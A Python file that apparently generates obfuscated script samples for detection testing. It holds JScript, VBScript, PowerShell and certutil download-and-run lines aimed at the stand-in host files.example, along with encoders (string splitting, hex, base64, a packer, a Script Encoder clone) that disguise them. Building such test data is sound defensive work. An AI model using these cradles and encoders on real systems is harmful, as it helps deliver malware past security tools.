"""How text of scripts is hidden: one function a trick, the same result at every run."""
import base64
import random
import struct

# What hides in all of them: a request that is never sent, a file that is not there.
JS = ('var h=new ActiveXObject("MSXML2.XMLHTTP");h.open("GET","http://files.example/in/a.bin",false);'
      'var s=new ActiveXObject("WScript.Shell");s.Run("nothing.tmp",0);')
VBS = ('Set h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "http://files.example/in/a.bin", False\r\n'
       'Set s = CreateObject("WScript.Shell")\r\ns.Run "nothing.tmp", 0\r\n')
PS = "$u='http://files.example/in/a.ps1';IEX (New-Object Net.WebClient).DownloadString"
BAT = "certutil -urlcache -f http://files.example/in/a.bin\r\nstart nothing.tmp\r\n"
URL = "http://files.example/in/a."
rnd = random.Random(20260814)


def cut(s, least=1, most=3):
    out = []
    while s:
        n = rnd.randint(least, most)
        out.append(s[:n])
        s = s[n:]
    return out


def name(n=6):
    return rnd.choice("abcdefghijkmnopqrstuvwxyz") + "".join(rnd.choice("abcdefghijkmnopqrstuvwxyz0123456789") for _ in range(n))


def q(s, quote='"'):
    """A string of JavaScript."""
    return quote + s.replace("\\", "\\\\").replace(quote, "\\" + quote).replace("\n", "\\n").replace("\r", "\\r") + quote


def vq(s):
    """A string of VBScript, which has no line ends in it."""
    return '"' + s.replace('"', '""') + '"'


def pq(s):
    """A string of PowerShell."""
    return "'" + s.replace("'", "''") + "'"


def plus(s, quote=q, sign="+"):
    return sign.join(quote(p) for p in cut(s))


def hexed(s):
    return '"' + "".join("\\x%02x" % ord(c) for c in s) + '"'


def b64(s):
    return base64.b64encode(s.encode()).decode()


def b64w(s):
    return base64.b64encode(s.encode("utf-16-le")).decode()


def lines(s, n=64):
    return [s[i:i + n] for i in range(0, len(s), n)]


def packed(source):
    """Dean Edwards' packer, radix 62, by its public description; the unpacker's body is left out."""
    digits = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    words, out, word = [], "", ""

    def number(i):
        return (number(i // 62) if i >= 62 else "") + digits[i % 62]
    for c in source + "\0":
        if c.isalnum() or c == "_":
            word += c
            continue
        if word:
            if word not in words:
                words.append(word)
            out += number(words.index(word))
        word = ""
        out += c
    return ("eval(function(p,a,c,k,e,d){/*...*/return p}(%s,62,%d,%s.split('|'),0,{}))"
            % (q(out[:-1], "'"), len(words), q("|".join(words), "'")))


# The Script Encoder's alphabet: for each character from 0x20 (and tab first) three stand-ins;
# 3F stands for characters that are written otherwise.  Mr. Brownstone, 2001.
_ALPHABET = bytes.fromhex(
    "643769507E2C225A654A4572613A5B5E79665D59755B274C42764560637623622A654D435F51337E53424F5220522063"
    "7A264A21545A467138202B79266632632A572A586C767F2B477B462530522C314F296C3D6949703F3F3F27787B3F3F3F"
    "675F513F3F3F62297A41247E5A2F3B663947323341736F774D215643755F7128263942787C466E534A64485C74314867"
    "72367D6E4B68707D35495D223F6A554B503A6A69602E236A7F097128706F3565497D745C242C5D2D7727544459373F25"
    "7B6D7C3D7C236C436D3438286D5E314E5B392B6E7F3057366F4C547434346B72624C254E33563056735E3A6873785509"
    "57474B7732613B3524442E4D2F646B594F44453B215C2D37684153366158587A4879222E096050756B2D384E29553D3F"
    "51672F")
_PICK = [1, 2, 0, 1, 2, 0, 2, 0, 0, 2, 0, 2, 1, 0, 2, 0, 1, 0, 2, 0, 1, 1, 2, 0, 0, 2, 1, 0, 2, 0, 0, 2,
         1, 1, 0, 2, 0, 2, 0, 1, 0, 1, 1, 2, 0, 1, 0, 2, 1, 0, 2, 0, 1, 1, 2, 0, 0, 1, 1, 2, 0, 1, 0, 2]


def screnc(source):
    """#@~^ and what follows, of ASCII text."""
    special = {"\n": "@&", "\r": "@#", "<": "@!", ">": "@*", "@": "@$"}
    out, total = "", 0
    for i, c in enumerate(source):
        total += ord(c)
        if c in special:
            out += special[c]
        else:
            k = 0 if c == "\t" else ord(c) - 31
            out += chr(_ALPHABET[3 * k + _PICK[i % 64]])
    size = base64.b64encode(struct.pack("<I", len(source))).decode()
    check = base64.b64encode(struct.pack("<I", total)).decode()
    return "#@~^" + size + out + check + "^#~@\0"
